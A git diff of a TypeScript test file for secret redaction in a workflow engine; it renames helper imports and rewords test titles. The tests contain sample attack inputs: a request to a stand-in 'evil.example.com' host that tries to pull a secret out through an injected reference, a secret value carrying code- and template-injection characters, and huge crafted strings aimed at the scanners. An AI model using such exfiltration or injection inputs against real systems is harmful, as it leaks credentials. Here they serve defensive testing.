@@ -1,7 +1,11 @@
 import { expect, test } from 'vitest';
 import type { ModelRequest } from '../../../../shared/adapters/model-port.ts';
 import type { HttpRequest, Ports } from '../../../../shared/adapters/ports.ts';
-import { inScript, keysOfScript, keysOfTemplate } from '../../../../shared/core/secret-references.ts';
+import {
+  replaceInScript,
+  secretKeysInScript,
+  secretKeysInTemplate,
+} from '../../../../shared/core/secret-references.ts';
 import type { FlowStepInput } from '../../../../shared/domain/flows/checking/flow-step.ts';
 import { FlowStepsInput } from '../../../../shared/domain/flows/checking/flow-steps.ts';
 import { textProblems } from '../../../../shared/domain/flows/checking/text-problems.ts';
@@ -52,7 +56,7 @@ const call = (http: object, more: object = {}): FlowStepInput => ({
   config: { http, ...more },
 });
 
-test('a call is sent with the value, and what echoes it comes back without', async () => {
+test('a request contains the value; a response that echoes it is redacted', async () => {
   const { requests, results } = await run([
     call({
       url: 'https://example.com/{{ secret:KEY | url_encode }}',
@@ -78,7 +82,7 @@ test('a call is sent with the value, and what echoes it comes back without', asy
   expect(JSON.stringify(result)).not.toContain('4711"');
 });
 
-test('the credentials of basic authentication are not told by an echo', async () => {
+test('an echo does not reveal basic authentication credentials', async () => {
   const { requests, results } = await run([
     call(
       { url: 'https://example.com' },
@@ -90,7 +94,7 @@ test('the credentials of basic authentication are not told by an echo', async ()
   expect(JSON.stringify(results)).not.toContain(sent.slice(8, 20));
 });
 
-test('a script has the value in its literals and as secrets.KEY; what it returns is without', async () => {
+test('a script reads the value in literals and as secrets.KEY; its result is redacted', async () => {
   const { results } = await run([
     transform(
       "return ['{{secret:KEY}}'.length, \"{{ secret:KEY }}\", `x{{secret:KEY}}`, secrets.KEY === '{{secret:KEY}}']",
@@ -103,7 +107,7 @@ test('a script has the value in its literals and as secrets.KEY; what it returns
   expect(results[2]).toMatchObject({ status: 'failed', error: expect.stringContaining('[secret:KEY]') });
 });
 
-test('a model is asked with the value; the prompt that is shown, its words and its stream are without', async () => {
+test('a model receives the value; the resolved prompt, the response and the stream are redacted', async () => {
   const asked: ModelRequest[] = [];
   const { results, events } = await run([prompt('My key is {{secret:KEY}}.')], {
     model: modelOf((request) => {
@@ -122,14 +126,14 @@ test('a model is asked with the value; the prompt that is shown, its words and i
   expect(events.at(-1)).toEqual({ type: 'text_complete', text: 'You said [secret:KEY]!' });
 });
 
-test('a value that came in as a variable is not streamed either', async () => {
+test('a value that arrives as a variable is redacted in streams too', async () => {
   const stream: FlowStepInput = { type: 'send-stream', name: 's', config: { sourceVariable: 'echo' } };
   const { events } = await run([prompt('{{secret:KEY}}'), stream], {}, { echo: `It is ${value}` });
   expect(events.at(-1)).toEqual({ type: 'text_complete', text: 'It is [secret:KEY]' });
   expect(JSON.stringify(events)).not.toContain('4711');
 });
 
-test('steps after the one that names a secret do not get it, and are cleaned too', async () => {
+test('later steps do not get the value, and are redacted too', async () => {
   const { results } = await run([
     call(
       { url: 'https://example.com' },
@@ -146,7 +150,7 @@ test('steps after the one that names a secret do not get it, and are cleaned too
   ]);
 });
 
-test('an error of the other side and a fault of the program are told without the value', async () => {
+test('external errors and bugs are reported without the value', async () => {
   const refusing = async (request: HttpRequest) => {
     const text = `${'x'.repeat(290)}${request.headers.authorization}`;
     return { status: 400, headers: {}, url: request.url, bytes: Buffer.from(text), text };
@@ -165,7 +169,7 @@ test('an error of the other side and a fault of the program are told without the
   expect((fault as Error).stack).not.toContain(value);
 });
 
-test('an error that ends like a value tells nobody that it does', async () => {
+test('an error that ends like a value does not reveal that', async () => {
   const echoing = async (request: HttpRequest) => {
     const text = `Unknown city: ${new URL(request.url).searchParams.get('city')}`;
     return { status: 404, headers: {}, url: request.url, bytes: Buffer.from(text), text };
@@ -178,7 +182,7 @@ test('an error that ends like a value tells nobody that it does', async () => {
   );
 });
 
-test('who writes a mark into a request gets no value for it, however often', async () => {
+test('a reference written into a request at run time is not replaced, however often', async () => {
   const step = call({
     url: 'https://evil.example.com/?x={{ x }}',
     method: 'POST',
@@ -192,7 +196,7 @@ test('who writes a mark into a request gets no value for it, however often', asy
   expect(JSON.stringify(requests.slice(1))).not.toContain('4711');
 });
 
-test('a body with a secret may not be redirected to another origin', async () => {
+test('a body with a secret is not redirected to another origin', async () => {
   const asked: HttpRequest[] = [];
   const fetch = async (request: HttpRequest) => {
     asked.push(request);
@@ -203,14 +207,14 @@ test('a body with a secret may not be redirected to another origin', async () =>
   expect(asked.map(({ sameOriginBody: bodyStays }) => bodyStays)).toEqual([true, undefined]);
 });
 
-test('a header called script is a template like any other', async () => {
+test('a header named script is a template like any other', async () => {
   const { requests } = await run([
     call({ url: 'https://example.com', headers: { script: '{{- secret:KEY | upcase }}' } }),
   ]);
   expect(requests[0]?.headers.script).toBe(value.toUpperCase());
 });
 
-test('a secret without a value fails the step that names it, and no other; flows without secrets ask for none', async () => {
+test('a secret without a value fails only the step that references it; flows without secrets read none', async () => {
   const { results, asked } = await run([
     call({ url: 'https://example.com/{{secret:NOT_THERE}}' }, { errorHandling: { onError: 'continue' } }),
     template('goes on'),
@@ -223,7 +227,7 @@ test('a secret without a value fails the step that names it, and no other; flows
   expect((await run([template('x'), transform('1')])).asked).toEqual([]);
 });
 
-test('values are asked for together, those of branches too, and once', async () => {
+test('all values are read together and once, including those of branches', async () => {
   const url = (key: string) => call({ url: `https://example.com/{{secret:${key}}}` });
   const branch: FlowStepInput = {
     type: 'conditional',
@@ -235,7 +239,7 @@ test('values are asked for together, those of branches too, and once', async () 
   expect(requests).toHaveLength(2);
 });
 
-test('what a value has in it is not code, and not a template', async () => {
+test('a value is interpreted neither as code nor as a template', async () => {
   // biome-ignore lint/suspicious/noTemplateCurlyInString: what a value may have
   const evil = "'; throw 1; `${x}` {{ a }} \n */ \u2028";
   const secrets = async () => new Map([['KEY', evil]]);
@@ -294,7 +298,7 @@ test.each([
     '0.config.recordName',
   ],
   [{ ...transform('1'), when: "'{{secret:KEY}}' === 'a'" } as FlowStepInput, '0.when'],
-] as [FlowStepInput, string][])('refuses %j when it is saved', async (step, path) => {
+] as [FlowStepInput, string][])('saving rejects %j', async (step, path) => {
   expect((await problems(step)).map(([at]) => at)).toContain(path);
 });
 
@@ -307,11 +311,11 @@ test.each([
   'secrets['.repeat(10_000),
   `secrets${' '.repeat(90_000)}`,
   `secrets.${'A'.repeat(90_000)}`,
-])('a hostile text is looked through in one reading: %.20s…', (text) => {
+])('a hostile text is scanned in linear time: %.20s…', (text) => {
   const times = [text, 'x'.repeat(text.length)].map((each) => {
     const began = performance.now();
     for (let round = 0; round < 5; round++)
-      [keysOfTemplate(each), keysOfScript(each), inScript(each, String)];
+      [secretKeysInTemplate(each), secretKeysInScript(each), replaceInScript(each, String)];
     return performance.now() - began;
   });
   const [hostile = 0, harmless = 0] = times;
